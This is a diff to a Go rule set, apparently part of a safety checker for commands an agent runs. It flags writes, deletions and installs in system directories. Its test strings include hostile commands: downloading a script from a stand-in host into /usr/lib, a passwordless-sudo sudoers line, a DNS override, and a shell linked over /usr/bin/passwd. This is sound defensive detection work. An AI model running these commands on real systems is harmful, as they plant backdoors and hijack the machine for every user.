@@ -1,22 +1,32 @@
 package commands
 
-import "strings"
+import (
+	"path"
+	"strings"
+)
 
 // systemWriteRules judge writes and deletions of single files in the
 // system's own directories (/etc, /usr outside /usr/local, /bin, /sbin,
 // /lib, /boot): an agent working on a project has no reason to replace,
 // plant or remove files there, and doing so changes how the whole machine
 // runs (configuration, programs, libraries, the boot).
+//
+// They are three rules, one per effect, so that the severity fit measures
+// each on its own: deleting a system file, installing a program or library
+// the way build guides do (a link or a copy into a bin or lib directory,
+// which everyday commands do too), and every other write (planting,
+// replacing or overwriting a file).
 var systemWriteRules = []*rule{
 	{
 		ID: "system-file-write", Class: "destructive filesystem", Sev: high,
-		Msg: "writes, replaces or deletes a file in a system directory",
+		Msg: "writes or replaces a file in a system directory",
 		Must: []string{
 			"wget -O /usr/lib/x/helper.py http://192.0.2.70/h.py",
 			"cp payload /usr/bin/ls",
 			"echo 'ALL ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/x",
-			"rm /etc/security/limits.conf",
 			"printf 'nameserver 192.0.2.71\\n' > /etc/resolv.conf",
+			"ln -sf /bin/bash /usr/bin/passwd",
+			"cp /bin/dash /usr/lib/helper/run",
 		},
 		MustNot: []string{
 			"cp build/app /usr/local/bin/app",
@@ -24,8 +34,28 @@ var systemWriteRules = []*rule{
 			"cp /etc/nginx/nginx.conf ./nginx.conf.bak",
 			"rm -f /tmp/build.log",
 			"echo hi > /dev/null",
+			"sudo ln -s /opt/tool/bin/tool /usr/bin/tool",
 		},
 		check: checkSystemWrite,
+	},
+	{
+		ID: "system-file-delete", Class: "destructive filesystem", Sev: high,
+		Msg:     "deletes a file in a system directory",
+		Must:    []string{"rm /etc/security/limits.conf", "sudo rm -f /usr/lib/os-release", "unlink /etc/localtime"},
+		MustNot: []string{"rm -f /tmp/build.log", "rm -rf ./etc/generated", "rm /usr/local/bin/tool"},
+		check:   checkSystemDelete,
+	},
+	{
+		ID: "system-install", Class: "destructive filesystem", Sev: medium,
+		Msg: "installs a program or library into a system directory (a link or a copy into a bin or lib directory)",
+		Must: []string{
+			"sudo ln -s /opt/tool/bin/tool /usr/bin/tool",
+			"sudo cp -a libfoo.so libfoo.so.1 /usr/lib/",
+			"sudo install -m 755 build/tool /usr/bin/tool",
+			"ln -s /var/cache/pkgs /etc/pkgtool/cache",
+		},
+		MustNot: []string{"cp build/app /usr/local/bin/app", "ln -s ../shared/config.yml config.yml", "cp README.md /tmp/notes.md"},
+		check:   checkSystemInstall,
 	},
 }
 
@@ -51,19 +81,98 @@ func systemFile(p string) bool {
 	return false
 }
 
-func checkSystemWrite(c *call, _ *config) *hit {
-	if c.name == "rm" || c.name == "unlink" || c.name == "shred" {
-		for _, op := range operands(c, "") {
-			if systemFile(op) {
-				return c.rule()
-			}
+// programDirs are the directories that hold the system's programs and
+// libraries: installing into them is what build guides do.
+var programDirs = []string{"/usr/bin", "/usr/sbin", "/bin", "/sbin", "/usr/lib", "/usr/lib32", "/usr/lib64", "/lib", "/lib32", "/lib64", "/usr/libexec"}
+
+// inProgramDir reports a path that is one of programDirs or directly (or
+// in an architecture subdirectory, /usr/lib/x86_64-linux-gnu) inside one.
+func inProgramDir(n string) bool {
+	for _, d := range programDirs {
+		if n == d {
+			return true
 		}
+		if rest, ok := strings.CutPrefix(n, d+"/"); ok {
+			return !strings.Contains(rest, "/") || strings.Count(rest, "/") == 1 && strings.HasSuffix(strings.SplitN(rest, "/", 2)[0], "-gnu")
+		}
+	}
+	return false
+}
+
+// corePrograms are programs every login runs or trusts: a copy or a link
+// over one of them replaces it for everyone.
+var corePrograms = set("ls", "ps", "ln", "cp", "mv", "rm", "cat", "sh", "bash", "dash", "zsh", "su", "sudo", "login", "passwd",
+	"sshd", "ssh", "netstat", "ss", "top", "who", "w", "last", "lsof", "find", "grep", "kill", "id", "whoami", "cron", "crond",
+	"systemctl", "init", "mount", "chmod", "chown", "useradd", "python", "python3", "perl", "curl", "wget", "tar", "env", "awk",
+	"sed", "ifconfig", "ip", "iptables", "pkexec", "chsh", "newgrp", "gpasswd", "vi", "vim", "less", "more", "man")
+
+// installs reports whether c links or copies programs or libraries into a
+// program directory the way an install step does: ln, install or cp,
+// nothing written over a core program, no shell copied or linked in.
+func installs(c *call) bool {
+	switch c.name {
+	case "ln", "install", "cp":
+	default:
+		return false
+	}
+	ops := operands(c, "-m -o -g -t -S --target-directory --mode --owner --group")
+	if len(ops) < 2 {
+		return false
+	}
+	dst := normPath(ops[len(ops)-1])
+	if c.name != "ln" && !inProgramDir(dst) || !systemFile(dst) && !inProgramDir(dst) {
+		return false
+	}
+	if !dirLike(dst) && corePrograms[path.Base(dst)] {
+		return false
+	}
+	for _, s := range ops[:len(ops)-1] {
+		b := progName(s)
+		if isShell(b) || isDevice(normPath(s)) || normPath(s) == "/dev/null" {
+			return false
+		}
+	}
+	return true
+}
+
+// dirLike reports a destination that names one of the program directories
+// itself (cp a.so b.so /usr/lib/).
+func dirLike(n string) bool {
+	for _, d := range programDirs {
+		if n == d {
+			return true
+		}
+	}
+	return false
+}
+
+func checkSystemWrite(c *call, _ *config) *hit {
+	if c.name == "rm" || c.name == "unlink" || c.name == "shred" || installs(c) {
 		return nil
 	}
 	for _, w := range writes(c) {
 		if systemFile(w) {
 			return c.rule()
 		}
+	}
+	return nil
+}
+
+func checkSystemDelete(c *call, _ *config) *hit {
+	if c.name != "rm" && c.name != "unlink" && c.name != "shred" {
+		return nil
+	}
+	for _, op := range operands(c, "") {
+		if systemFile(op) {
+			return c.rule()
+		}
+	}
+	return nil
+}
+
+func checkSystemInstall(c *call, _ *config) *hit {
+	if installs(c) {
+		return c.rule()
 	}
 	return nil
 }
